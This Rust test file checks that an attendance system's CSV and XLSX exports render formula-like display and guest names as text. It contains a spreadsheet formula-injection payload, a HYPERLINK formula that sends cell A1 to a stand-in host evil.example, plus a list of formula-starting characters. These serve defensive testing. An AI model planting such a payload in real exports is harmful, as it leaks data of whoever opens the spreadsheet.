//! The attendance exports, read back as a teacher's spreadsheet would read them: the CSV with a
//! CSV reader, the XLSX with openpyxl (PyPI), an independent reader. A display name or a guest
//! name that starts like a formula must arrive as text, never as a formula.

use serde_json::{Value, json};

use crate::attendance::{Scene, beat_for, open_ok, scene};
use crate::helpers::Client;

/// Names people can choose that a spreadsheet would run as formulas.
const FORMULA_NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Grades\")";
const GUEST_NAME: &str = "+SUM(1;2)";

async fn rename(who: &Client, email: &str, name: &str) {
    let (s, e) = who
        .call(
            "profile/update",
            &[
                ("display_name", name),
                ("email", email),
                ("language", "en"),
                ("time_zone", ""),
                ("avatar_link", ""),
            ],
        )
        .await;
    assert_eq!(s, 200, "{e}");
}

/// A student and a guest, both named like formulas, each with two minutes in the meeting.
async fn attended() -> Scene {
    let sc = scene().await;
    rename(&sc.student, "sam@uni.test", FORMULA_NAME).await;
    let token = open_ok(&sc.student, &sc.activity, 0).await;
    beat_for(&sc, &sc.student, &token, 0, 1, 4).await;

    let expires = crate::helpers::local(crate::helpers::now() + 3600);
    let (s, e) = sc
        .teacher
        .call(
            "guests/create",
            &[
                ("activity_id", &sc.activity),
                ("label", "Parents"),
                ("expires_at", &expires),
                ("max_uses", ""),
            ],
        )
        .await;
    assert_eq!(s, 200, "{e}");
    let (_, links) = sc
        .teacher
        .call("guests/links", &[("activity_id", &sc.activity)])
        .await;
    let url = links[0]["url"].as_str().expect("url");
    let link = url.rsplit('/').next().expect("token");
    let guest = sc.app.client();
    let (s, e) = guest
        .call("guests/join", &[("token", link), ("name", GUEST_NAME)])
        .await;
    assert_eq!(s, 200, "{e}");
    let (s, opened) = guest
        .call(
            "attendance/open",
            &[("activity_id", &sc.activity), ("client_ms", "0")],
        )
        .await;
    assert_eq!(s, 200, "{opened}");
    let t = opened["token"].as_str().expect("token").to_owned();
    beat_for(&sc, &guest, &t, 0, 1, 4).await;
    sc
}

fn xlsx_cells(bytes: &[u8]) -> Value {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("attendance.xlsx");
    std::fs::write(&path, bytes).expect("write xlsx");
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/read_xlsx.py");
    let out = std::process::Command::new("python3")
        .arg(script)
        .arg(&path)
        .output()
        .expect("python3 with openpyxl (scripts/install-tools.sh installs it)");
    assert!(
        out.status.success(),
        "openpyxl could not read the export: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("json")
}

#[tokio::test]
async fn names_that_look_like_formulas_reach_the_csv_as_text() {
    let sc = attended().await;
    let (s, csv) = sc
        .teacher
        .get(&format!("/activities/{}/attendance.csv", sc.activity))
        .await;
    assert_eq!(s, 200, "{csv}");
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.expect("record")[0].to_owned())
        .collect();
    assert!(
        names.contains(&format!("'{FORMULA_NAME}")),
        "the student's name starts with a quote: {names:?}"
    );
    assert!(
        names.contains(&format!("'{GUEST_NAME} (guest)")),
        "and so does the guest's: {names:?}"
    );
    for n in &names {
        assert!(
            !n.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell that a spreadsheet would run: {n:?}"
        );
    }
    // Every field is quoted, numbers included, so no field can start a new cell or row.
    let data = csv.trim_start_matches('\u{feff}');
    for line in data.lines() {
        assert!(line.starts_with('"'), "{line}");
    }
}

#[tokio::test]
async fn the_xlsx_holds_the_names_as_text_cells_exactly_as_typed() {
    let sc = attended().await;
    let res = sc
        .teacher
        .http
        .get(format!(
            "{}/activities/{}/attendance.xlsx",
            sc.app.base, sc.activity
        ))
        .send()
        .await
        .expect("xlsx");
    assert_eq!(res.status(), 200);
    let cells = xlsx_cells(&res.bytes().await.expect("bytes"));
    let people = cells["Participants"]
        .as_array()
        .expect("a Participants sheet");
    assert_eq!(people[0][0]["value"], json!("Name"));
    assert_eq!(people[0][3]["value"], json!("Credited from buffered beats"));
    let mut found = Vec::new();
    for row in &people[1..] {
        let name = &row[0];
        assert_eq!(
            name["type"],
            json!("s"),
            "a text cell, never a formula: {row:?}"
        );
        found.push(name["value"].as_str().unwrap_or_default().to_owned());
        assert_eq!(row[2]["type"], json!("n"), "minutes are numbers");
        assert_eq!(row[2]["value"], json!(2));
    }
    found.sort();
    let mut want = vec![FORMULA_NAME.to_owned(), format!("{GUEST_NAME} (guest)")];
    want.sort();
    assert_eq!(found, want);
    for sheet in cells.as_object().expect("sheets").values() {
        for row in sheet.as_array().expect("rows") {
            for cell in row.as_array().expect("cells") {
                assert_ne!(cell["type"], json!("f"), "no formula anywhere: {cell}");
            }
        }
    }
}
